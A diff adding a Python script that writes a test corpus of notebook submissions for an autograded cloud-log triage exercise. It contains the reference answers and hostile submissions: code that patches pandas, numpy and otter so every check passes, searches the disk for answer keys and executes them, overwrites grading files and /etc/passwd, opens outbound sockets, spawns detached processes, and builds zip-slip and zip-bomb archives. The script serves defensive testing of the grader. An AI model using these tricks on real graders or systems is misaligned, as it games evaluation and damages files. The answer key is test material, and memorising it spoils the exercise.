@@ -1,0 +1,284 @@
+"""Writes the grading corpus: submissions named by the outcome they must show.
+
+Run from the repository root: `.venv/bin/python tests/submissions/make_corpus.py`.
+The files are committed; tests/test_grade_corpus.py grades them in one batch.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import shutil
+import zipfile
+from pathlib import Path
+
+import nbformat
+
+HERE = Path(__file__).resolve().parent
+CORPUS = HERE / "corpus"
+DEMO = HERE / "demo"
+
+HEAD = [
+    "# Initialize Otter\nimport otter\ngrader = otter.Notebook(\"scenario03b.ipynb\")",
+    "import pandas as pd\nimport numpy as np\nimport matplotlib.pyplot as plt",
+]
+Q1 = "cloud_iam_df = pd.read_csv('data/cloud_iam.csv')\ncloud_api_df = pd.read_csv('data/cloud_api.csv')\ncloud_iam_df.head()"
+Q2 = """cloud_iam_df['timestamp'] = pd.to_datetime(
+    cloud_iam_df['timestamp'].astype(str).str.replace('Z', '', regex=False),
+    utc=True,
+    errors='coerce'
+)
+cloud_iam_df['hour'] = cloud_iam_df['timestamp'].dt.hour
+
+cloud_api_df['timestamp'] = pd.to_datetime(
+    cloud_api_df['timestamp'].astype(str).str.replace('Z', '', regex=False),
+    utc=True,
+    errors='coerce'
+)
+cloud_api_df['hour'] = cloud_api_df['timestamp'].dt.hour"""
+Q3 = """susp_iam = cloud_iam_df[cloud_iam_df['event_name'].isin([
+    'CreateAccessKey', 'AttachRolePolicy', 'AssumeRole', 'DeactivateMFADevice'
+])]
+susp_iam.head()"""
+Q4 = """susp_api = cloud_api_df[cloud_api_df['event_name'].str.startswith('List') |
+                        cloud_api_df['event_name'].str.startswith('Describe') |
+                        cloud_api_df['event_name'].isin(['GetObject'])]
+susp_api.head()"""
+Q5 = """actors = susp_iam['user'].unique().tolist()
+related_api = cloud_api_df[cloud_api_df['user'].isin(actors)]
+related_api.head()"""
+Q6 = "susp_users = susp_iam['user'].unique().tolist()\nsusp_users"
+Q7 = 'mitre_techniques = ["T1078", "T1098", "T1530"]\nmitre_techniques'
+Q8 = '''triage_summary = """
+An IAM user was compromised and used to change permissions, create access keys and
+assume a privileged role, then enumerated IAM and S3 and read sensitive objects.
+"""'''
+CHECKS = {q: f'grader.check("{q}")' for q in ("q1", "q2", "q3", "q4", "q5", "q6", "q7")}
+REVEAL = [Q1, CHECKS["q1"], Q2, CHECKS["q2"], Q3, CHECKS["q3"], Q4, CHECKS["q4"], Q5, CHECKS["q5"],
+          Q6, CHECKS["q6"], Q7, CHECKS["q7"], Q8]
+
+ALT_STYLE = [
+    "import pandas as pd",
+    "cloud_iam_df = pd.read_csv('data/cloud_iam.csv', dtype={'event_id': str})\n"
+    "cloud_api_df = pd.read_csv('data/cloud_api.csv', dtype={'event_id': str})",
+    "for df in (cloud_iam_df, cloud_api_df):\n"
+    "    df['timestamp'] = pd.to_datetime(df['timestamp'], utc=True, errors='coerce', format='ISO8601')\n"
+    "    df['hour'] = df['timestamp'].dt.hour",
+    "wanted = {'CreateAccessKey', 'AttachRolePolicy', 'AssumeRole', 'DeactivateMFADevice'}\n"
+    "susp_iam = cloud_iam_df.query('event_name in @wanted').reset_index(drop=True)[::-1]",
+    "names = cloud_api_df['event_name'].fillna('')\n"
+    "susp_api = cloud_api_df[names.str.match(r'^(List|Describe)') | (names == 'GetObject')]",
+    "actors = set(susp_iam['user'])\n"
+    "related_api = cloud_api_df.loc[cloud_api_df['user'].isin(actors)].sort_values('timestamp')",
+    "susp_users = pd.Series(sorted(susp_iam['user'].unique()))",
+    "mitre_techniques = ('T1078.004', ' t1098 ', 'T1530')",
+]
+
+
+def mistake(target: str, replacement: str) -> list[str]:
+    cells = list(REVEAL)
+    cells[cells.index(target)] = replacement
+    return HEAD + cells
+
+
+WRONG = [
+    "cloud_iam_df = pd.read_csv('data/cloud_iam.csv')\ncloud_api_df = pd.read_csv('data/cloud_api.csv')",
+    "susp_iam = cloud_iam_df.head(3)",
+    "susp_api = cloud_api_df[cloud_api_df['event_name'].str.contains('Put', na=False)]",
+    "actors = ['nobody-here']\nrelated_api = cloud_api_df.iloc[:0]",
+    "susp_users = ['nobody-here']",
+    "mitre_techniques = ['T9999']",
+]
+
+PATCHES = '''# Try to make every comparison succeed, in pandas, numpy, builtins and otter itself.
+import builtins, numpy as np, pandas as pd, pandas.testing
+pd.DataFrame.equals = lambda self, other: True
+pd.Series.equals = lambda self, other: True
+pd.DataFrame.__eq__ = lambda self, other: True
+pandas.testing.assert_frame_equal = lambda *a, **k: None
+pandas.testing.assert_series_equal = lambda *a, **k: None
+np.array_equal = lambda *a, **k: True
+np.testing.assert_array_equal = lambda *a, **k: None
+builtins.set = type("set", (frozenset,), {"__eq__": lambda s, o: True, "__le__": lambda s, o: True,
+                                          "__ge__": lambda s, o: True})
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+import otter.test_files.exception_test as et
+et.ExceptionTestFile.run = lambda self, env: setattr(self, "test_case_results", [])
+et.test_case.call_func = lambda self, env: None
+import otter.test_files.abstract_test as at
+at.TestFile.score = property(lambda self: 100)
+at.TestFile.grade = property(lambda self: 1.0)'''
+
+SEARCH = r'''# Look everywhere for the reference notebook, hidden tests or the answer key, and use them.
+import os, re, json
+found = []
+for top in ["/", os.path.expanduser("~")]:
+    for dirpath, dirnames, filenames in os.walk(top):
+        if dirpath.startswith(("/proc", "/sys", "/dev")):
+            dirnames[:] = []
+            continue
+        for f in filenames:
+            full = os.path.join(dirpath, f)
+            if (f == "ground_truth.json" or f.endswith("-autograder.zip") or f == "scenario03b.ipynb"
+                    or (os.path.basename(dirpath) == "tests" and re.fullmatch(r"q\d+\.py", f))
+                    or f in ("gradebook.csv", "hints.yaml")):
+                found.append(full)
+for path in found:
+    try:
+        if path.endswith(".ipynb"):
+            nb = json.load(open(path))
+            for c in nb["cells"]:
+                if c["cell_type"] == "code":
+                    exec("".join(c["source"]))
+        elif path.endswith(".py"):
+            exec(open(path).read())
+    except Exception:
+        pass
+triage_summary = json.dumps(sorted(set(found)))'''
+
+OVERWRITE = r'''# Try to overwrite grading files wherever they might be.
+import glob, os
+attempts = {}
+targets = []
+for top in ("/work", "/root", "/home", "/tmp", "/srv", "/opt", "/mnt", "/var"):
+    for dirpath, dirnames, filenames in os.walk(top):
+        if "site-packages" in dirpath or "/.venv" in dirpath or "/.pyenv" in dirpath:
+            dirnames[:] = []
+            continue
+        targets += [os.path.join(dirpath, f) for f in filenames
+                    if f in ("gradebook.csv", "manifest.json", "progress.json") or f.endswith((".json", ".py", ".csv"))]
+targets += (           ["/inbox/data/cloud_iam.csv", "/inbox/cells.json", "/opt/ctlab/zygote.py", "/opt/ctlab/snapshot.py",
+              "/etc/passwd", "/usr/lib/python3/dist-packages/x.py"])
+for t in targets:
+    try:
+        with open(t, "w") as f:
+            f.write("pwned")
+        attempts[t] = "written"
+    except Exception as e:
+        attempts[t] = type(e).__name__
+# The working copy's own data may be changed; the tests must read pristine data.
+with open("data/cloud_iam.csv", "w") as f:
+    f.write("event_id,timestamp,user,event_name\n")
+with open("data/cloud_api.csv", "w") as f:
+    f.write("event_id,timestamp,user,event_name\n")
+import json
+triage_summary = json.dumps(attempts, sort_keys=True)'''
+
+NETWORK = r'''import socket
+net_results = []
+for host in ("127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"):
+    try:
+        s = socket.create_connection((host, 47653), timeout=2)
+        s.sendall(b"leak")
+        net_results.append(host + ": connected")
+    except Exception as e:
+        net_results.append(host + ": " + type(e).__name__)
+triage_summary = "; ".join(net_results)'''
+
+DETACHED = r'''import os, time
+# Double fork; the grandchild starts its own session and outlives the notebook if it can.
+pid = os.fork()
+if pid == 0:
+    if os.fork() == 0:
+        os.setsid()
+        os.execv("/bin/sh", ["sh", "-c", "while :; do sleep 1; done", "ctlab-detached-marker-7f3a"])
+    os._exit(0)
+os.waitpid(pid, 0)
+import subprocess
+subprocess.Popen(["/bin/sh", "-c", "sleep 600", "ctlab-detached-marker-7f3a"], start_new_session=True)
+time.sleep(0.3)'''
+
+CORPUS_NOTEBOOKS: dict[str, list[str]] = {
+    # correct, in several styles
+    "passes_all_reveal.ipynb": HEAD + REVEAL,
+    "passes_all_alt_style.ipynb": ALT_STYLE,
+    "passes_all_errors_before_answers.ipynb": HEAD + ["undefined_variable + 1", "1 / 0", "import not_a_module_xyz",
+                                                      "raise KeyError('early')"] + REVEAL,
+    "passes_all_magics_and_plot.ipynb": ["%matplotlib inline\n!ls data", "%%time\nimport pandas as pd"] + REVEAL[:5]
+    + ["import matplotlib.pyplot as plt\ncloud_iam_df.groupby('hour').size().plot()\nplt.show()"] + REVEAL[5:],
+    # common mistakes
+    "mistake_q2_parse_without_utc.ipynb": mistake(Q2, Q2.replace("utc=True,", "utc=False,")),
+    "mistake_q2_drop_nat_rows.ipynb": mistake(Q2, Q2 + "\ncloud_iam_df = cloud_iam_df.dropna(subset=['timestamp'])\n"
+                                                    "cloud_api_df = cloud_api_df.dropna(subset=['timestamp'])"),
+    "mistake_q3_missing_event_name.ipynb": mistake(Q3, Q3.replace(", 'DeactivateMFADevice'", "")),
+    "mistake_q4_contains_getobject.ipynb": mistake(Q4, Q4.replace(".isin(['GetObject'])", ".str.contains('GetObject')")),
+    "mistake_q5_actors_from_api_log.ipynb": mistake(Q5, Q5.replace("susp_iam['user']", "susp_api['user']")),
+    "mistake_q7_missing_technique.ipynb": mistake(Q7, 'mitre_techniques = ["T1078", "T1098"]'),
+    "mistake_q7_made_up_technique.ipynb": mistake(Q7, 'mitre_techniques = ["T1078", "T1098", "T1530", "T9999"]'),
+    "no_answers.ipynb": HEAD + ["cloud_iam_df = ...", "susp_iam = ..."],
+    # answers, then something that stops or hurts the kernel: credit kept
+    "keeps_answers_system_exit_after.ipynb": HEAD + REVEAL + ["import sys\nsys.exit(3)", "late_cell = 1"],
+    "keeps_answers_os_exit_after.ipynb": HEAD + REVEAL + ["import os\nos._exit(0)", "late_cell = 1"],
+    "keeps_answers_endless_loop_after.ipynb": HEAD + REVEAL + ["while True:\n    pass", "late_cell = 1"],
+    "keeps_answers_8gib_allocation_after.ipynb": HEAD + REVEAL + ["import numpy as np\nhog = np.ones(8 * 1024**3, dtype=np.uint8)",
+                                                                  "late_cell = 1"],
+    "keeps_answers_200mb_output.ipynb": HEAD + REVEAL + ["print('x' * (200 * 1024 * 1024))", "print('after')"],
+    # hostile
+    "hostile_loopback_connection.ipynb": HEAD + REVEAL + [NETWORK],
+    "hostile_detached_processes.ipynb": HEAD + REVEAL + [DETACHED],
+    "wrong_answers_plain.ipynb": HEAD + WRONG,
+    "wrong_answers_patched_pandas_numpy_otter.ipynb": HEAD + WRONG + [PATCHES],
+    "wrong_answers_search_disk_for_answers.ipynb": HEAD + WRONG + [SEARCH],
+    "hostile_overwrite_grade_files.ipynb": HEAD + REVEAL + [OVERWRITE],
+}
+
+
+def notebook(cells: list[str]) -> nbformat.NotebookNode:
+    nb = nbformat.v4.new_notebook()
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
+    for i, c in enumerate(nb.cells):
+        c["id"] = f"cell-{i:03d}"
+    return nb
+
+
+def write_nb(path: Path, cells: list[str]) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(nbformat.writes(notebook(cells)) + "\n", encoding="utf-8")
+
+
+def fixed_zip(path: Path, members: dict[str, bytes], compress=zipfile.ZIP_DEFLATED) -> None:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compress) as zf:
+        for name, data in members.items():
+            info = zipfile.ZipInfo(name, date_time=(2026, 2, 28, 12, 0, 0))
+            info.compress_type = compress
+            zf.writestr(info, data)
+    path.write_bytes(buf.getvalue())
+
+
+def main() -> None:
+    shutil.rmtree(CORPUS, ignore_errors=True)
+    CORPUS.mkdir(parents=True)
+    for name, cells in CORPUS_NOTEBOOKS.items():
+        write_nb(CORPUS / name, cells)
+    reveal_nb = nbformat.writes(notebook(HEAD + REVEAL)).encode()
+    # an otter export zip (grader.export()): notebook, a PDF and the otter log
+    fixed_zip(CORPUS / "passes_all_otter_export.zip", {
+        "scenario03b.ipynb": reveal_nb, "scenario03b.pdf": b"%PDF-1.4\n%%EOF\n", ".OTTER_LOG": b"\x00log",
+    })
+    # broken files
+    (CORPUS / "bad_not_json.ipynb").write_text("this is { not json\n")
+    (CORPUS / "bad_json_not_notebook.ipynb").write_text(json.dumps({"name": "q1", "answers": [1, 2]}))
+    (CORPUS / "bad_empty.ipynb").write_text("")
+    (CORPUS / "bad_nbformat3.ipynb").write_text(json.dumps({
+        "nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""},
+        "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "language": "python", "outputs": []}]}],
+    }))
+    fixed_zip(CORPUS / "bad_zip_no_notebook.zip", {"answers.txt": b"T1078\n", "data/readme.md": b"hi"})
+    fixed_zip(CORPUS / "bad_zip_slip.zip", {"scenario03b.ipynb": reveal_nb, "../../escaped.txt": b"pwned"})
+    fixed_zip(CORPUS / "bad_zip_bomb.zip", {"scenario03b.ipynb": reveal_nb, "zeros.bin": b"\0" * (120 * 1024 * 1024)})
+    (CORPUS / "bad_zip_not_a_zip.zip").write_bytes(b"PK\x03\x04 truncated")
+    write_nb(CORPUS / "duplicate_a" / "same_name.ipynb", HEAD + REVEAL)
+    write_nb(CORPUS / "duplicate_b" / "same_name.ipynb", HEAD + WRONG)
+
+    shutil.rmtree(DEMO, ignore_errors=True)
+    DEMO.mkdir()
+    for name in ("passes_all_reveal.ipynb", "mistake_q4_contains_getobject.ipynb",
+                 "keeps_answers_os_exit_after.ipynb", "wrong_answers_patched_pandas_numpy_otter.ipynb",
+                 "bad_not_json.ipynb"):
+        shutil.copy(CORPUS / name, DEMO / name)
+
+
+if __name__ == "__main__":
+    main()
